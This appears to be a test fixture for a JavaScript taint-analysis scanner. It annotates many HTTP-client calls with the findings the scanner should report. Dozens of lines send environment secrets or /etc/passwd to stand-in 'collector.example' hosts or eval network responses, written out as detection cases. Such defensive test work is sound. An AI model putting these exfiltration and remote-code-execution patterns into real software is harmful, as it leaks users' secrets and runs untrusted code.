// HTTP clients.
const axios = require("axios");
const apollo = require("@apollo/client");
const fetchNode = require("node-fetch");
const got = require("got");
const http = require("http");
const http2 = require("http2");
const https = require("https");
const jquery = require("jquery");
const ky = require("ky");
const needle = require("needle");
const request = require("request");
const graphql = require("graphql-request");
const superagent = require("superagent");
const undici = require("undici");

const U = "https://collector.example/u";

function requestOptions() {
  https.request({ host: "h1.collector.example", path: "/?t=" + process.env.T }); //~ source(ENVIRONMENT) f1, sink(egress.http) f1, finding(traced) f1, capability(NETWORK), endpoint("h1.collector.example")
  https.request({ host: "h1.collector.example", key: process.env.KEY }); //~ ok
}

function requestBody() {
  const req = http.request(U, { method: "POST" }, (res) => {
    res.on("data", (chunk) => axios.post(U, "got it"));
  });
  req.setHeader("X-T", process.env.T); //~ source(ENVIRONMENT) f2, sink(egress.http) f2, finding(traced) f2
  req.write(process.env.T); //~ source(ENVIRONMENT) f3, sink(egress.http) f3, finding(traced) f3
  req.setHeader("X-V", "1"); //~ ok
  req.write("ping"); //~ ok
  axios.post(U, req.destroy(process.env.T)); //~ ok
}

function responseRun() {
  http.get(U, (res) => { //~ source(NETWORK) f4
    res.on("data", (chunk) => eval(chunk)); //~ sink(exec.code) f4, finding(traced) f4
    eval(res.read()); //~ sink(exec.code) f4, finding(traced) f4
    res.on("data", () => eval("1")); //~ ok
    axios.post(U, { none: res.read() === null }); //~ ok
  });
}

function responseEvent() {
  const req = http.request(U);
  req.on("response", (res) => eval(res.headers.x)); //~ source(NETWORK) f5, sink(exec.code) f5, finding(traced) f5
  req.on("error", () => eval("1")); //~ ok
}

function second() {
  const session = http2.connect("https://h2.collector.example"); //~ endpoint("https://h2.collector.example"), capability(NETWORK)
  session.request({ ":path": "/" + process.env.T }); //~ source(ENVIRONMENT) f6, sink(egress.http) f6, finding(traced) f6
  session.request({ ":path": "/" }); //~ ok
  http2.connect(U).request({ ":path": "/" }); //~ ok
}

async function fetched() {
  const response = await fetch(U, { method: "POST", body: process.env.T }); //~ source(ENVIRONMENT) f7, sink(egress.http) f7, finding(traced) f7, capability(NETWORK)
  await fetch(U + "?t=" + process.env.T); //~ source(ENVIRONMENT) f8, sink(egress.http) f8, finding(traced) f8
  await fetch(U, { headers: { "X-T": process.env.T } }); //~ source(ENVIRONMENT) f9, sink(egress.http) f9, finding(traced) f9
  await fetch(U, { method: "POST", body: "ping" }); //~ ok
  await fetchNode("https://nf.collector.example/u", { body: process.env.T }); //~ source(ENVIRONMENT) f10, sink(egress.http) f10, finding(traced) f10, endpoint("https://nf.collector.example/u")
}

async function fetchedCode() {
  const response = await fetch(U); //~ source(NETWORK) f11
  eval(await response.text()); //~ sink(exec.code) f11, finding(traced) f11
  await fetch(U, { body: { none: (await response.text()) === "" } }); //~ ok
}

async function requested() {
  await fetch(new Request(U, { body: process.env.T })); //~ source(ENVIRONMENT) f12, sink(egress.http) f12, finding(traced) f12
  await fetch(new Request(U, { body: "ping" })); //~ ok
  await fetch(U, { headers: new Headers({ "X-T": process.env.T }) }); //~ source(ENVIRONMENT) f13, sink(egress.http) f13, finding(traced) f13
  await fetch(U, { headers: new Headers({ "X-V": "1" }) }); //~ ok
}

function oldStyle() {
  const xhr = new XMLHttpRequest(); //~ capability(NETWORK)
  xhr.onload = () => eval(xhr.responseText); //~ source(NETWORK) f14, sink(exec.code) f14, finding(traced) f14
  xhr.open("POST", U + "?t=" + process.env.T); //~ source(ENVIRONMENT) f15, sink(egress.http) f15, finding(traced) f15
  xhr.setRequestHeader("X-T", process.env.T); //~ source(ENVIRONMENT) f16, sink(egress.http) f16, finding(traced) f16
  xhr.send(process.env.T); //~ source(ENVIRONMENT) f17, sink(egress.http) f17, finding(traced) f17
  eval(xhr.getResponseHeader("X")); //~ source(NETWORK) f18, sink(exec.code) f18, finding(traced) f18
}

function oldStyleEvent() {
  const xhr = new XMLHttpRequest();
  xhr.onreadystatechange = (event) => eval(event.target.response); //~ source(NETWORK) f19, sink(exec.code) f19, finding(traced) f19
  xhr.onreadystatechange = () => eval("1"); //~ ok
  xhr.open("POST", U); //~ ok
  xhr.setRequestHeader("X-V", "1"); //~ ok
  xhr.send("ping"); //~ ok
  axios.post(U, { none: xhr.response === null }); //~ ok
  axios.post(U, { none: xhr.getResponseHeader("X") === null }); //~ ok
}

const idle = new XMLHttpRequest(); //~ ok

async function withAxios() {
  await axios.get(U, { params: { t: process.env.T } }); //~ source(ENVIRONMENT) f20, sink(egress.http) f20, finding(traced) f20, capability(NETWORK)
  await axios.get(U, { httpsAgent: process.env.T }); //~ ok
  await axios.post(U, { t: process.env.T }); //~ source(ENVIRONMENT) f21, sink(egress.http) f21, finding(traced) f21, capability(NETWORK)
  await axios.post(U, { t: 1 }); //~ ok
  await axios({ method: "post", url: U, data: process.env.T }); //~ source(ENVIRONMENT) f22, sink(egress.http) f22, finding(traced) f22
  await axios({ method: "post", url: U, data: "ping" }); //~ ok
  await axios.request({ url: U, data: process.env.T }); //~ source(ENVIRONMENT) f23, sink(egress.http) f23, finding(traced) f23
  await axios.request({ url: U, data: "ping" }); //~ ok
  const instance = axios.create({ baseURL: "https://ax.collector.example" }); //~ endpoint("https://ax.collector.example")
  await instance.post("/u", process.env.T); //~ source(ENVIRONMENT) f24, sink(egress.http) f24, finding(traced) f24
  await axios.create({ baseURL: U }).post("/u", "ping"); //~ ok
}

async function withGot() {
  await got.post(U, { json: { t: process.env.T } }); //~ source(ENVIRONMENT) f25, sink(egress.http) f25, finding(traced) f25, capability(NETWORK)
  await got.post(U, { json: { t: 1 } }); //~ ok
  await got(U, { form: { t: process.env.T } }); //~ source(ENVIRONMENT) f26, sink(egress.http) f26, finding(traced) f26, capability(NETWORK)
  await got(U, { form: { t: 1 } }); //~ ok
  const instance = got.extend({ prefixUrl: "https://got.collector.example" }); //~ endpoint("https://got.collector.example")
  await instance.post("u", { body: process.env.T }); //~ source(ENVIRONMENT) f27, sink(egress.http) f27, finding(traced) f27
  await got.extend({ prefixUrl: U }).post("u", { body: "ping" }); //~ ok
  const api = ky.create({ prefixUrl: "https://ky.collector.example" }); //~ endpoint("https://ky.collector.example")
  await api.post("u", { json: process.env.T }); //~ source(ENVIRONMENT) f28, sink(egress.http) f28, finding(traced) f28
  await ky.create({ prefixUrl: U }).post("u", { json: 1 }); //~ ok
  got.stream.post(U).write(process.env.T); //~ source(ENVIRONMENT) f29, sink(egress.http) f29, finding(traced) f29, capability(NETWORK)
  got.stream.post(U).write("ping"); //~ ok
}

async function withUndici() {
  await undici.request(U, { body: process.env.T }); //~ source(ENVIRONMENT) f30, sink(egress.http) f30, finding(traced) f30, capability(NETWORK)
  await undici.request(U, { body: "ping" }); //~ ok
  const client = new undici.Client("https://und.collector.example"); //~ endpoint("https://und.collector.example"), capability(NETWORK)
  await client.request({ path: "/", body: process.env.T }); //~ source(ENVIRONMENT) f31, sink(egress.http) f31, finding(traced) f31
  await new undici.Client(U).request({ path: "/", body: "ping" }); //~ ok
}

function withRequest() {
  request({ url: U, json: { t: process.env.T } }); //~ source(ENVIRONMENT) f32, sink(egress.http) f32, finding(traced) f32, capability(NETWORK)
  request({ url: U, json: { t: 1 } }); //~ ok
  request.post(U, { form: { t: process.env.T } }, (err, res, body) => null); //~ source(ENVIRONMENT) f33, sink(egress.http) f33, finding(traced) f33, capability(NETWORK)
  request.post(U, { form: { t: 1 } }); //~ ok
  request(U, (err, res, body) => eval(body)); //~ source(NETWORK) f34, sink(exec.code) f34, finding(traced) f34
  request.get(U, (err, res, body) => eval(body)); //~ source(NETWORK) f35, sink(exec.code) f35, finding(traced) f35
  request.get(U, (err) => eval(err)); //~ ok
  request.post(U).form({ t: process.env.T }); //~ source(ENVIRONMENT) f36, sink(egress.http) f36, finding(traced) f36
  request.post(U).form({ t: 1 }); //~ ok
  const form = request.post(U).form();
  form.append("t", process.env.T); //~ source(ENVIRONMENT) f37, sink(egress.http) f37, finding(traced) f37
  form.append("t", "1"); //~ ok
}

async function withSuperagent() {
  await superagent.post(U).type("json").send({ t: process.env.T }); //~ source(ENVIRONMENT) f38, sink(egress.http) f38, finding(traced) f38, capability(NETWORK)
  await superagent.post(U).type("json").send({ t: 1 }); //~ ok
  await superagent.post("https://sa.collector.example/" + process.env.T); //~ source(ENVIRONMENT) f39, sink(egress.http) f39, finding(traced) f39
  await superagent.post(U).attach("file", "/etc/passwd"); //~ source(FILE) f40, sink(egress.http) f40, finding(traced) f40, capability(FILES)
  axios.post(U, { has: superagent.post(U).attach === undefined }); //~ ok
  superagent.get(U).end((err, res) => eval(res.text)); //~ source(NETWORK) f41, sink(exec.code) f41, finding(traced) f41
  superagent.get(U).end((err) => eval(err)); //~ ok
  const agent = superagent.agent();
  await agent.post(U, process.env.T); //~ source(ENVIRONMENT) f42, sink(egress.http) f42, finding(traced) f42
  await superagent.agent().post(U, "ping"); //~ ok
}

async function withNeedle() {
  await needle("post", U, { t: process.env.T }); //~ source(ENVIRONMENT) f43, sink(egress.http) f43, finding(traced) f43, capability(NETWORK)
  await needle("post", U, { t: 1 }); //~ ok
  await needle.post(U, { t: process.env.T }); //~ source(ENVIRONMENT) f44, sink(egress.http) f44, finding(traced) f44, capability(NETWORK)
  await needle.post(U, { t: 1 }); //~ ok
  needle.get(U, (err, res, body) => eval(body)); //~ source(NETWORK) f45, sink(exec.code) f45, finding(traced) f45
  needle.get(U, (err) => eval(err)); //~ ok
}

function withJquery() {
  $.post(U, { t: process.env.T }); //~ source(ENVIRONMENT) f46, sink(egress.http) f46, finding(traced) f46, capability(NETWORK)
  $.post(U, { t: 1 }); //~ ok
  $.get(U, (data) => eval(data)); //~ source(NETWORK) f47, sink(exec.code) f47, finding(traced) f47
  jquery.ajax({ url: U, data: process.env.T }); //~ source(ENVIRONMENT) f48, sink(egress.http) f48, finding(traced) f48, capability(NETWORK)
  jquery.ajax({ url: U, data: "ping" }); //~ ok
  $.ajax({ url: U, success: (data) => eval(data) }); //~ source(NETWORK) f49, sink(exec.code) f49, finding(traced) f49
  axios.post(U, $.param({ t: process.env.T })); //~ source(ENVIRONMENT) f50, sink(egress.http) f50, finding(traced) f50
  axios.post(U, $.param({ t: 1 })); //~ ok
}

function beacon() {
  navigator.sendBeacon(U, process.env.T); //~ source(ENVIRONMENT) f51, sink(egress.http) f51, finding(traced) f51, capability(NETWORK)
  navigator.sendBeacon(U, "ping"); //~ ok
}

async function withGraphql() {
  const client = new apollo.ApolloClient({ uri: "https://gql.collector.example" }); //~ endpoint("https://gql.collector.example"), capability(NETWORK)
  await client.mutate({ variables: { t: process.env.T } }); //~ source(ENVIRONMENT) f52, sink(egress.http) f52, finding(traced) f52
  await new apollo.ApolloClient({ uri: U }).mutate({ variables: { t: 1 } }); //~ ok
  await graphql.request(U, "mutation", { t: process.env.T }); //~ source(ENVIRONMENT) f53, sink(egress.http) f53, finding(traced) f53, capability(NETWORK)
  await graphql.request(U, "mutation", { t: 1 }); //~ ok
}
